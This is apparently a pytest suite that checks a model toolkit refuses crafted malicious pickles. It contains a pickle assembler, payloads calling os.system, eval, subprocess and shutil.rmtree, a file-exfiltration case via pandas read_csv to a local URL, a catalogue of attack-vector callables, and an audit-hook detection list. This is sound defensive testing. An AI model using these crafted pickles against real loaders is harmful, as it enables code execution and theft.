"""Crafted pickles behind honest cards: each is refused before any of its code runs.

Every case is a pickle that does harm when a plain ``pickle.loads`` reads it (a control
proves it for the ones whose harm stays in a temp folder), written into a real artifact
whose card lists every global the pickle names and whose sha256 and size fit: the card
tells the truth, so only the loader's own rule can stop it. While the toolkit unpickles,
an audit hook is armed (no process, no socket, no write outside pytest's own files, no
import of the attack's module) and a canary file proves nothing happened.

The catalogue of stdlib callables follows the attack vectors public scanners test for
(picklescan's malicious samples, fickling's ``test_attack_vectors.py``); the payloads here
are written from those patterns, not copied.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import pickle
import signal
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

import toolkit
from toolkit import pickle_audit, trust
from toolkit.artifact import artifact_paths, read_card
from toolkit.cli import app
from toolkit.errors import IntegrityError

# --- a tiny pickle assembler -----------------------------------------------------------------


@dataclass(frozen=True)
class G:
    """A global exactly as the attack spells it (any module, any name, dots included)."""

    module: str
    name: str

    def __call__(self, *args: Any) -> Call:
        return Call(self, args)


@dataclass(frozen=True)
class Call:
    """``func(*args)`` when unpickled (REDUCE)."""

    func: Any
    args: tuple[Any, ...]

    def __call__(self, *args: Any) -> Call:
        return Call(self, args)


@dataclass(frozen=True)
class Build:
    """``obj`` then BUILD with ``state`` (setattr / __setstate__ on it)."""

    obj: Any
    state: Any


class _Crafter(pickle._Pickler):  # type: ignore[name-defined,misc]
    def __init__(self, file: Any, protocol: int) -> None:
        super().__init__(file, protocol=protocol)
        self.named: set[tuple[str, str]] = set()

    def save(self, obj: Any, save_persistent_id: bool = True) -> None:
        if isinstance(obj, G):
            self.named.add((obj.module, obj.name))
            if self.proto >= 4:
                self.save(obj.module)
                self.save(obj.name)
                self.write(pickle.STACK_GLOBAL)
            else:
                self.write(pickle.GLOBAL + f"{obj.module}\n{obj.name}\n".encode())
            return
        if isinstance(obj, Call):
            self.save(obj.func)
            self.save(obj.args)
            self.write(pickle.REDUCE)
            return
        if isinstance(obj, Build):
            self.save(obj.obj)
            self.save(obj.state)
            self.write(pickle.BUILD)
            return
        super().save(obj, save_persistent_id)


def craft(payload: Any, protocol: int = 4) -> tuple[bytes, tuple[tuple[str, str], ...]]:
    """The pickle of ``payload`` and every (module, name) it names, sorted: the honest record."""
    buffer = io.BytesIO()
    crafter = _Crafter(buffer, protocol)
    crafter.dump(payload)
    return buffer.getvalue(), tuple(sorted(crafter.named))


def forge(artifact: Path, blob: bytes, pairs: tuple[tuple[str, str], ...]) -> None:
    """Put ``blob`` in the artifact behind a card that lists ``pairs`` honestly, with the
    right sha256 and size and its own rendering beside it (built without the card parser,
    which would refuse some of these names itself)."""
    paths = artifact_paths(artifact)
    card = read_card(artifact)
    paths.model.write_bytes(blob)
    d = json.loads(paths.card_json.read_text())
    d["artifact"].update(sha256=hashlib.sha256(blob).hexdigest(), size=len(blob))
    modules = tuple(sorted({m for m, _ in pairs}))
    d["references"].update(globals=[list(p) for p in pairs], modules=list(modules), local_modules=[])
    paths.card_json.write_text(json.dumps(d, indent=2))
    forged = replace(
        card,
        artifact=replace(card.artifact, sha256=d["artifact"]["sha256"], size=len(blob)),
        references=replace(card.references, globals=pairs, modules=modules, local_modules=()),
    )
    paths.card_md.write_text(forged.to_markdown())


# --- the watch -------------------------------------------------------------------------------

_WATCH: dict[str, Any] = {"armed": False, "events": []}
_BAD_EVENTS = (
    "os.system",
    "os.exec",
    "os.posix_spawn",
    "os.spawn",
    "os.fork",
    "subprocess.Popen",
    "socket.connect",
    "socket.getaddrinfo",
    "shutil.rmtree",
    "os.remove",
    "os.rmdir",
    "os.truncate",
    "ctypes.dlopen",
    "mmap.__new__",
    "urllib.Request",
    "webbrowser.open",
    "os.chmod",
    "os.rename",
)


def _hook(event: str, args: tuple[Any, ...]) -> None:
    if not _WATCH["armed"]:
        return
    if event.startswith(_BAD_EVENTS) or (event == "open" and _writes(args)) or _runs_source(event, args):
        _WATCH["events"].append((event, repr(args)[:200]))
    elif event == "import":
        _WATCH["events"].append((event, args[0]))


def _runs_source(event: str, args: tuple[Any, ...]) -> bool:
    # exec of code that is no module's file: eval/exec/compile of a string. (A module's own
    # import also fires "exec"; imports are judged by name below.)
    if event == "compile":
        return True
    if event != "exec":
        return False
    filename = getattr(args[0], "co_filename", "") if args else ""
    return not filename or filename.startswith("<")


def _writes(args: tuple[Any, ...]) -> bool:
    mode = args[1] if len(args) > 1 else "r"
    flags = args[2] if len(args) > 2 else 0
    return (isinstance(mode, str) and any(c in mode for c in "wax+")) or (isinstance(flags, int) and flags & 0o3 != 0)


sys.addaudithook(_hook)  # an audit hook cannot be removed: it only records while armed


@contextmanager
def watched(forbidden_imports: tuple[str, ...]) -> Iterator[list[tuple[str, str]]]:
    """Arm the hook; afterwards, the harmful events seen (imports of ``forbidden_imports`` among them)."""
    import socket

    real_connect = socket.socket.connect

    def no_network(self: socket.socket, *a: Any) -> None:
        raise AssertionError(f"network while unpickling: {a}")

    socket.socket.connect = no_network  # type: ignore[method-assign]
    _WATCH["events"] = []
    _WATCH["armed"] = True
    found: list[tuple[str, str]] = []
    try:
        yield found
    finally:
        _WATCH["armed"] = False
        socket.socket.connect = real_connect  # type: ignore[method-assign]
        for event, what in _WATCH["events"]:
            if event != "import" or what.split(".")[0] in forbidden_imports:
                found.append((event, what))


# --- the cases -------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Path], Any]  # tmp folder -> payload
    protocol: int = 4
    control: bool = True  # a plain pickle.loads in a child does the harm (proves the case is live)
    harm: Callable[[Path], bool] = lambda tmp: (tmp / "canary").exists()
    imports: tuple[str, ...] = ()  # modules that must not even be imported


def _touch(tmp: Path) -> str:
    return f"touch {tmp / 'canary'}"


def _py_touch(tmp: Path) -> str:
    return f"open({str(tmp / 'canary')!r}, 'w').close()"


def _victim(tmp: Path) -> Path:
    victim = tmp / "victim.txt"
    if not victim.exists():
        victim.write_text("precious")
    return victim


def _victim_dir(tmp: Path) -> Path:
    folder = tmp / "victim_dir"
    folder.mkdir(exist_ok=True)
    (folder / "keep").write_text("precious")
    return folder


_PATH = G("pathlib", "Path")

CASES = [
    Case("dotted-os-system", lambda t: G("posixpath", "os.system")(_touch(t)), imports=("posixpath",)),
    Case("dotted-eval-call", lambda t: G("builtins", "eval.__call__")(_py_touch(t))),
    Case("py2-builtin-eval", lambda t: G("__builtin__", "eval")(_py_touch(t)), protocol=2),
    Case("py2-commands", lambda t: G("commands", "getoutput")(_touch(t)), protocol=2, control=False),
    Case(
        "logging-dictconfig",
        lambda t: G("logging.config", "dictConfig")(
            {"version": 1, "handlers": {"h": {"()": "os.system", "command": _touch(t)}}}
        ),
        imports=("logging",),
    ),
    Case(
        "doctest-debug-src",
        lambda t: G("doctest", "debug_src")(f">>> {_py_touch(t)}\n"),
        control=False,  # runs under pdb, which waits for a terminal
        imports=("doctest",),
    ),
    Case(
        "numpy-runstring",
        lambda t: G("numpy.testing._private.utils", "runstring")(_py_touch(t), {}),
        imports=("numpy.testing",),
    ),
    Case(
        "frozen-importlib-gcd-import",
        lambda t: G("_frozen_importlib", "_gcd_import")("tk_attack_canary"),
        imports=("tk_attack_canary",),
    ),
    Case(
        "pathlib-write-pth",
        lambda t: G("pathlib", "Path.write_text")(_PATH(str(t / "evil.pth")), "import os\n"),
        harm=lambda t: (t / "evil.pth").exists(),
        imports=("pathlib",),
    ),
    Case(
        "numpy-memmap-truncate",
        lambda t: G("numpy", "memmap")(str(_victim(t)), "uint8", "w+", 0, (4,)),
        harm=lambda t: (t / "victim.txt").read_text() != "precious",
    ),
    Case(
        "numpy-reconstruct-memmap",
        lambda t: G("numpy._core.multiarray", "_reconstruct")(G("numpy", "memmap"), (0,), b"b"),
        control=False,
        harm=lambda t: False,
    ),
    Case(
        "shutil-rmtree",
        lambda t: G("shutil", "rmtree")(str(_victim_dir(t))),
        harm=lambda t: not (t / "victim_dir" / "keep").exists(),
        imports=("shutil",),
    ),
    Case(
        "pandas-read-csv-exfiltrate",
        lambda t: G("pandas", "read_csv")(
            G("operator", "add")("http://127.0.0.1:9/?secret=", G("pathlib", "Path.read_text")(_PATH(str(_victim(t)))))
        ),
        control=False,
        harm=lambda t: False,  # the network is off; the hook records any connect attempt
        imports=("operator", "urllib"),
    ),
    Case("pip-main", lambda t: G("pip", "main")(["--version"]), control=False, harm=lambda t: False, imports=("pip",)),
    Case("venv-create", lambda t: G("venv", "create")(str(t / "canary")), imports=("venv",)),
    Case("pydoc-pipepager", lambda t: G("pydoc", "pipepager")("x", _touch(t)), imports=("pydoc",)),
    Case(
        "getattr-import-chain",
        lambda t: G("builtins", "getattr")(G("builtins", "__import__")("os"), "system")(_touch(t)),
    ),
    Case(
        "ufunc-reconstruct-os-system",
        lambda t: G("numpy.core", "_ufunc_reconstruct")("os", "system")(_touch(t)),
    ),
    Case(
        "copyreg-reconstructor-popen",
        lambda t: G("copyreg", "_reconstructor")(G("subprocess", "Popen"), G("builtins", "object"), None),
        control=False,
        harm=lambda t: False,
        imports=("subprocess",),
    ),
    Case(
        "sklearn-dump-svmlight",
        lambda t: G("sklearn.datasets._svmlight_format_io", "dump_svmlight_file")([[1.0]], [1], str(t / "canary")),
    ),
    Case(
        "type-three-args",
        lambda t: G("builtins", "type")("X", (G("builtins", "object"),), {}),
        control=False,
        harm=lambda t: False,
    ),
    Case(
        "build-patches-a-class",
        lambda t: Build(
            G("builtins", "type")(G("sklearn.linear_model._logistic", "LogisticRegression")()),
            (None, {"predict": G("numpy", "mean")}),
        ),
        control=False,
        harm=lambda t: (
            not hasattr(__import__("sklearn.linear_model").linear_model.LogisticRegression, "predict")
            or __import__("sklearn.linear_model").linear_model.LogisticRegression.predict.__name__ != "predict"
        ),
    ),
    Case(
        "estimator-holding-a-foreign-callable",
        lambda t: G("functools", "partial")(G("posix", "system"), _touch(t)),
        control=False,
        harm=lambda t: False,
    ),
]

# The stdlib callables public scanners test for, each called with a harmless-but-visible
# argument; protocols 0 to 5 (GLOBAL and STACK_GLOBAL).
CATALOGUE = [
    ("os", "system", lambda t: (_touch(t),)),
    ("os", "popen", lambda t: (_touch(t),)),
    ("posix", "system", lambda t: (_touch(t),)),
    ("subprocess", "call", lambda t: (["touch", str(t / "canary")],)),
    ("subprocess", "check_output", lambda t: (["touch", str(t / "canary")],)),
    ("subprocess", "getoutput", lambda t: (_touch(t),)),
    ("builtins", "exec", lambda t: (_py_touch(t),)),
    ("builtins", "compile", lambda t: (_py_touch(t), "<x>", "exec")),
    ("builtins", "open", lambda t: (str(t / "canary"), "w")),
    ("runpy", "run_path", lambda t: (str(t / "script.py"),)),
    ("code", "InteractiveInterpreter", lambda t: ()),
    ("cProfile", "run", lambda t: (_py_touch(t),)),
    ("profile", "run", lambda t: (_py_touch(t),)),
    ("timeit", "timeit", lambda t: (_py_touch(t),)),
    ("trace", "Trace", lambda t: ()),
    ("pty", "spawn", lambda t: (["touch", str(t / "canary")],)),
    ("pydoc", "locate", lambda t: ("os.system",)),
    ("importlib", "import_module", lambda t: ("tk_attack_canary",)),
    ("marshal", "loads", lambda t: (b"\x00",)),
    ("ctypes", "CDLL", lambda t: ("libc.so.6",)),
    ("socket", "create_connection", lambda t: (("127.0.0.1", 9),)),
    ("multiprocessing.util", "spawnv_passfds", lambda t: (b"/bin/touch", [b"touch", str(t / "canary").encode()], ())),
    ("webbrowser", "open", lambda t: ("http://127.0.0.1:9/",)),
    ("idlelib.pyshell", "main", lambda t: ()),
    ("lib2to3.main", "main", lambda t: ("lib2to3.fixes", [str(t / "script.py"), "-w"])),
    ("distutils.spawn", "spawn", lambda t: (["touch", str(t / "canary")],)),
    ("asyncio.unix_events", "_UnixSubprocessTransport", lambda t: ()),
    ("_posixsubprocess", "fork_exec", lambda t: ()),
    ("pickle", "loads", lambda t: (b"cos\nsystem\n(S'true'\ntR.",)),
    ("numpy", "load", lambda t: (str(t / "x.npy"),)),
    ("numpy", "fromfile", lambda t: (str(t / "script.py"),)),
    ("joblib", "load", lambda t: (str(t / "x.joblib"),)),
    ("pandas", "read_pickle", lambda t: (str(t / "x.pkl"),)),
    ("pandas.io.parsers.readers", "read_csv", lambda t: ("http://127.0.0.1:9/x.csv",)),
    ("scipy.io", "savemat", lambda t: (str(t / "canary"), {})),
    ("sklearn.datasets", "fetch_openml", lambda t: ("iris",)),
    ("sklearn.utils._testing", "TempMemmap", lambda t: ([1],)),
    ("numpy.lib.format", "open_memmap", lambda t: (str(t / "canary"), "w+")),
    ("tempfile", "mkdtemp", lambda t: ()),
    ("gc", "get_objects", lambda t: ()),
    ("operator", "attrgetter", lambda t: ("system",)),
]


def _prepare(folder: Path) -> None:
    # A module whose import leaves the canary: importing it at all is the harm.
    folder.mkdir(exist_ok=True)
    (folder / "tk_attack_canary.py").write_text(f"open({str(folder / 'canary')!r}, 'w').close()\n")
    (folder / "script.py").write_text(_py_touch(folder) + "\n")


@pytest.fixture
def sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    _prepare(tmp_path)
    monkeypatch.syspath_prepend(str(tmp_path))
    sys.modules.pop("tk_attack_canary", None)
    return tmp_path


def _control(blob: bytes, tmp: Path) -> None:
    """A plain pickle.loads in a child process, confined to ``tmp``: the case is live.

    The child is forked from this process, not started fresh: a fresh interpreter would import
    scikit-learn and scipy from scratch for the svmlight case (~2.5 s of its 3 s), numpy for
    four more. Forked, it has them already, as the process a real ``toolkit.load`` runs in has;
    it still runs in its own process (its harm, its crash or exit is its own), from ``tmp``,
    with ``tmp`` first on its path, no canary module imported, and the environment and silent
    standard streams the fresh child had."""
    pid = os.fork()
    if pid == 0:  # the child: never returns into pytest
        try:
            os.chdir(tmp)
            os.environ.clear()
            os.environ.update(PATH="/usr/bin:/bin", PYTHONPATH=str(tmp))
            sys.path.insert(0, str(tmp))
            sys.modules.pop("tk_attack_canary", None)
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            pickle.loads(blob)
        finally:
            os._exit(0)
    deadline = time.monotonic() + 120
    while os.waitpid(pid, os.WNOHANG) == (0, 0):
        if time.monotonic() > deadline:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
            raise AssertionError("the control's child did not finish in 120 s")
        time.sleep(0.005)


def _policy(pairs: tuple[tuple[str, str], ...], distributions: tuple[str, ...]) -> trust.Policy:
    return trust.Policy(
        record=frozenset(pairs),
        record_modules=frozenset(m for m, _ in pairs),
        distributions=frozenset(distributions) | {"pip"},  # even a card that lists pip
        local_modules=frozenset({"tk_attack_canary"}),  # and lists the canary as its own module
    )


def _refused(blob: bytes, pairs: Any, artifact: Path, forbidden: tuple[str, ...]) -> None:
    card = json.loads(artifact_paths(artifact).card_json.read_text())
    policy = _policy(pairs, tuple(card["references"]["distributions"]))
    with watched(forbidden) as seen, pytest.raises(IntegrityError, match="refused"):
        pickle_audit.load(blob, policy, where="attack.joblib")
    assert seen == []


@pytest.fixture(scope="module")
def warm_loader(base_artifact: Path) -> None:
    # toolkit.load imports some of its own modules on first use (toolkit.certification, whose
    # dataclasses compile their __init__: a "compile" event the watch records): a genuine load
    # first, unwatched, so what a watch sees is the pickle's doing, whichever test runs first.
    toolkit.load(base_artifact)


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_crafted_pickle_is_refused_before_it_runs(
    case: Case, sandbox: Path, artifact: Path, runner: CliRunner, iris_frame: tuple[Any, Any], warm_loader: None
) -> None:
    payload = case.build(sandbox)
    blob, pairs = craft(payload, case.protocol)
    if case.control:
        control = sandbox / "control"
        _prepare(control)
        _control(craft(case.build(control), case.protocol)[0], control)
        assert case.harm(control), f"{case.name}: the control did no harm; the case is not live"
    case.build(sandbox)  # (re)create victims
    forbidden = (*case.imports, "tk_attack_canary")
    # The loader itself, with a policy that lists every global honestly (and even pip and
    # the canary module as the card's own): refused, nothing imported, nothing run.
    _refused(blob, pairs, artifact, forbidden)
    # The whole path: an honest card with a fitting sha256; load and predict exit 3.
    forge(artifact, blob, pairs)
    with watched(forbidden) as seen, pytest.raises(IntegrityError):
        toolkit.load(artifact)
    assert seen == []
    rows = sandbox / "rows.csv"
    iris_frame[0].head(3).to_csv(rows, index=False)
    result = runner.invoke(app, ["predict", str(artifact), str(rows)])
    assert result.exit_code == 3, result.output
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert not case.harm(sandbox), f"{case.name}: harm done"
    assert not (sandbox / "canary").exists()


@pytest.mark.parametrize("protocol", [0, 1, 2, 3, 4, 5])
@pytest.mark.parametrize(("module", "name", "args"), CATALOGUE, ids=[f"{m}.{n}" for m, n, _ in CATALOGUE])
def test_catalogue_of_stdlib_callables_is_refused(
    module: str, name: str, args: Callable[[Path], tuple[Any, ...]], protocol: int, sandbox: Path, artifact: Path
) -> None:
    blob, pairs = craft(G(module, name)(*args(sandbox)), protocol)
    _refused(blob, pairs, artifact, (module.split(".")[0], "tk_attack_canary"))
    assert not (sandbox / "canary").exists()
